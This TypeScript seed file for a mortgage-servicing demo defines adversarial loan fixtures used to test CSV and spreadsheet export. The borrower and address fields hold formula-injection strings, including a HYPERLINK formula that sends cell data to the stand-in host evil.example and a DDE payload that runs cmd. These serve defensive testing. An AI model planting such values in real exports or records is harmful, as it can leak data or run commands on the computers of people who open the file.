// Loans whose borrower names and property addresses hold what real data holds and attackers
// send: text beginning with =, +, - or @ (spreadsheet formulas), quotes, commas, line breaks, a
// leading tab, and non-Latin letters. They are the loans at the indexes below in every seed
// large enough to reach them (the 200- and 2,000-loan seeds included), are Active, and are
// originated and owned by the admin's default organization (Harborview Mortgage, HMC) and
// serviced by the user's ORG_ADMIN organization (Summit Ridge Home Loans, SRH), so both demo
// accounts see them. Their ULIs and loan numbers (below) are the same at every seed size; tests
// find them through ADVERSARIAL_LOANS (tests/server/seed.test.ts checks they match).

export interface AdversarialLoan {
  /** The loan's index in the seed (its random stream). */
  readonly index: number;
  /** What the seed makes of the loan's random stream: stable, checked by the seed test. */
  readonly uli: string;
  readonly loanNumber: string;
  readonly firstName: string;
  readonly lastName: string;
  readonly street1: string;
  readonly street2: string | null;
}

export const ADVERSARIAL_LOANS: readonly AdversarialLoan[] = [
  {
    index: 8,
    uli: '5493A9RXTTPFU88LM52407DA3802D6474C3B76',
    loanNumber: '1000000105',
    firstName: '=HYPERLINK("https://evil.example/?q="&A1,"Open")',
    lastName: '=1+2',
    street1: "=cmd|' /C calc'!A0",
    street2: null,
  },
  {
    index: 9,
    uli: '5493A9RXTTPFU88LM52450643681EDDBC9EA17',
    loanNumber: '1000000125',
    firstName: '+Plus',
    lastName: '+SUM(1,2)',
    street1: '+1 (555) 010-0199 Harbor Way',
    street2: null,
  },
  {
    index: 10,
    uli: '5493A9RXTTPFU88LM524CE82BAF6791E5F2837',
    loanNumber: '1000000136',
    firstName: '-Minus',
    lastName: '-2+3',
    street1: '-40 Below Zero Rd',
    street2: '@Suite 5',
  },
  {
    index: 11,
    uli: '5493A9RXTTPFU88LM524797690C3B59C6FCA47',
    loanNumber: '1000000145',
    firstName: '@Handle',
    lastName: '@SUM(A1:A2)',
    street1: '@Home, 12 Elm St',
    street2: null,
  },
  {
    index: 12,
    uli: '5493A9RXTTPFU88LM52474C6478FC3D6040A13',
    loanNumber: '1000000157',
    firstName: 'Robert "Bobby"',
    lastName: "O'Neil, Jr.",
    street1: '12 "Quoted" Ave, Unit 3',
    street2: 'Building "B", Floor 2',
  },
  {
    index: 13,
    uli: '5493A9RXTTPFU88LM52436401C307350112B29',
    loanNumber: '1000000177',
    firstName: 'Line\nBreak',
    lastName: 'Carriage\r\nReturn',
    street1: '1 First Line\nSecond Line',
    street2: '\tTabbed Unit',
  },
  {
    index: 14,
    uli: '5493A9RXTTPFU88LM52452599C4653FD5A9B55',
    loanNumber: '1000000192',
    firstName: '小明',
    lastName: '王',
    street1: '北京路88号',
    street2: '3栋 1201室',
  },
  {
    index: 15,
    uli: '5493A9RXTTPFU88LM524FB92C9B6848A9F2A13',
    loanNumber: '1000000200',
    firstName: 'محمد',
    lastName: 'العلي',
    street1: '٤٥ شارع النيل',
    street2: null,
  },
  {
    index: 16,
    uli: '5493A9RXTTPFU88LM524E11D9A4CA924BE2940',
    loanNumber: '1000000210',
    firstName: 'Ирина',
    lastName: 'Иванова',
    street1: 'ул. Ленина, д. 10',
    street2: 'кв. 5',
  },
  {
    index: 17,
    uli: '5493A9RXTTPFU88LM5241CC1941D1B6D83B873',
    loanNumber: '1000000226',
    firstName: 'José-María',
    lastName: 'Núñez Ødegård',
    street1: "12 Rue de l'Église",
    street2: 'Bât. Ç',
  },
];

const BY_INDEX = new Map(ADVERSARIAL_LOANS.map((loan) => [loan.index, loan]));

export const adversarialLoan = (index: number): AdversarialLoan | undefined => BY_INDEX.get(index);
